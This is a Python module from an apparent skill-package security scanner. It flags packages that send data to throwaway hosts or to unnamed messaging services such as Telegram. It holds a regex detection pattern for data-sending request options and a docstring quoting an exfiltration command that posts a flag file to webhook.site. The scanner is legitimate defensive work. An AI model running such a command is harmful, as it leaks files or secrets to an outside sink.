"""Disproportionate egress (DESIGN.md "Permit and decide", rules 1 and 3): where a package sends data,
against what its stated purpose needs.

- `data_to_sink(...)`: malice (block). Code the package runs, or an instruction the agent is told to
  follow, sends data — request parameters, a body, a form, an uploaded file, or a flow of the
  environment, a variable, a file's content or a credential store — to a throwaway host (a paste site,
  request catcher, file drop, file host, tunnel or free-hosting app) that the stated purpose does not
  explain. A free-hosting app is explained only by its hosting provider named in the stated purpose (a
  Cloudflare Workers skill posting to its own `*.workers.dev` app: `egress.hosting_providers`).
- `unnamed_messaging(...)`: privilege (review). Code or an instruction reaches a messaging service
  (Telegram, Discord, Slack… `egress.messaging_services`) that the stated purpose does not name: a
  weather skill posting its results to a Telegram chat. A skill whose purpose names that service stays
  as it was.

Mentions in context text (reference, quoted, test data, a command offered to the user) are not the
package sending anything: these rules read only code, agent-instruction and hidden evidence."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterable, Mapping, Sequence
from dataclasses import dataclass

from skillscan.model import Capability, Channel, Confidence, Evidence, Finding, InferredCapability, Package
from skillscan.policy_download import stated_text
from skillscan.policy_practice import line_text
from skillscan.policy_roles import CONTEXT_ROLES
from skillscan.purpose.domains import host_within
from skillscan.purpose.services import load_table
from skillscan.purpose.stated import StatedPurpose

RULE_IDS: tuple[str, ...] = ("data-to-throwaway-host", "undisclosed-messaging-egress")

# a request that carries data: keyword arguments and options of the common clients, an HTTP method that
# sends a body, a file opened for upload
_SENDS = re.compile(
    r"\b(?:params|data|json|files|body|form|payload)\s*[=:]"
    r"|(?<![\w-])(?:-d|-F|-T|--data(?:-binary|-raw|-urlencode)?|--form|--upload-file|--post-data|--post-file|--body)"
    r"(?=[\s=@'\"])"
    r"|(?<![\w-])-X\s*['\"]?(?:POST|PUT|PATCH)\b|\bmethod\s*[=:]\s*['\"](?:POST|PUT|PATCH)['\"]"
    r"|\.(?:post|put|patch)\s*\(|\bsendBeacon\s*\(|\bInvoke-(?:RestMethod|WebRequest)\b[^\n]*-Body\b",
    re.IGNORECASE)


@dataclass(frozen=True)
class EgressPolicy:
    """`egress:` of the policy: messaging services by id, free-hosting suffix → its provider's words; and
    `practice(path)`: the stated-purpose word saying the skill the path belongs to is security practice
    (policy_practice.security_practice), whose documents cite an attacker's sinks as their subject."""
    messaging: frozenset[str] = frozenset()
    providers: tuple[tuple[str, tuple[str, ...]], ...] = ()
    practice: Callable[[str], str | None] = lambda path: None


def _cited(e: Evidence, policy: EgressPolicy) -> bool:
    """Text (not code) of a security-practice skill: a CTF guide's `curl https://webhook.site/… -d @flag`,
    a malware-analysis note on C2 over Telegram — the practice's subject, judged by the other rules."""
    return e.channel is not Channel.CODE and policy.practice(e.path) is not None


@dataclass(frozen=True)
class Hit:
    said: str  # the sentence of the reason
    evidence: Evidence
    capability: Capability


def _acting(e: Evidence, roles: Mapping[tuple[str, int, str], str]) -> bool:
    """Code or an instruction, at medium confidence or more (an example the text presents as such is low)."""
    return e.confidence >= Confidence.MEDIUM and roles.get((e.path, e.line, e.rule_id), "") not in CONTEXT_ROLES


def _flows_to(findings: Iterable[Finding], host: str) -> dict[tuple[str, int], str]:
    """(path, line) → what a data-flow finding sends to `host` (`the environment`, `a file's content`…)."""
    out: dict[tuple[str, int], str] = {}
    for f in findings:
        flow = f.flow
        if flow is None or flow.sink != "network" or not flow.host or not host_within(flow.host, host):
            continue
        what = {"environment": "the environment", "file": "a file's content", "store": "a credential store",
                "selection": "environment variables chosen by name"}.get(
            flow.source, f"the value of {', '.join(flow.names[:3])}" if flow.names else "a variable")
        out[(f.location.path, f.location.line)] = what
    return out


def _provider_named(host: str, providers: Sequence[tuple[str, tuple[str, ...]]], stated: str) -> str | None:
    for suffix, words in providers:
        if host_within(host, suffix):
            for w in words:
                if re.search(rf"(?<![a-z0-9]){re.escape(w.lower())}(?![a-z0-9])", stated):
                    return w
    return None


def data_to_sink(package: Package, inferred: Sequence[InferredCapability], findings: Sequence[Finding],
                 roles: Mapping[tuple[str, int, str], str], policy: EgressPolicy) -> list[Hit]:
    """A hit for each throwaway host the package sends data to."""
    table = load_table()
    out: list[Hit] = []
    for ic in inferred:
        host = ic.capability.scope or ""
        if ic.capability.kind != "net.egress" or not host or host == "*":
            continue
        sink = table.sink(host)
        if sink is None or sink.category == "url-shortener":
            continue
        flows: dict[tuple[str, int], str] | None = None
        for e in ic.evidence:
            if not _acting(e, roles) or _cited(e, policy):
                continue
            if sink.category == "free-hosting" and _provider_named(host, policy.providers, stated_text(package, e.path)):
                break
            if flows is None:
                flows = _flows_to(findings, host)
            what = flows.get((e.path, e.line))
            if what is None and _SENDS.search(line_text(package, e.path, e.line)[:4000]):
                what = "request data"
            if what is None:
                continue
            out.append(Hit(f"sends {what} to {host}, {sink.label} its stated purpose does not explain", e, ic.capability))
            break
    return out


def unnamed_messaging(inferred: Sequence[InferredCapability], roles: Mapping[tuple[str, int, str], str],
                      purpose: StatedPurpose, policy: EgressPolicy) -> list[Hit]:
    """A hit for each messaging service reached that the stated purpose does not name."""
    table = load_table()
    out: list[Hit] = []
    seen: set[str] = set()
    for ic in inferred:
        host = ic.capability.scope or ""
        if ic.capability.kind != "net.egress" or not host or host == "*":
            continue
        owners = [s for s in table.for_host(host) if s.id in policy.messaging]
        if not owners or any(s.id in purpose.ids for s in owners) or owners[0].id in seen:
            continue
        acting = [e for e in ic.evidence if _acting(e, roles) and not _cited(e, policy)]
        if not acting:
            continue
        seen.add(owners[0].id)
        out.append(Hit(f"reaches {host} ({owners[0].label}), a messaging service its stated purpose does not name",
                       acting[0], ic.capability))
    return out
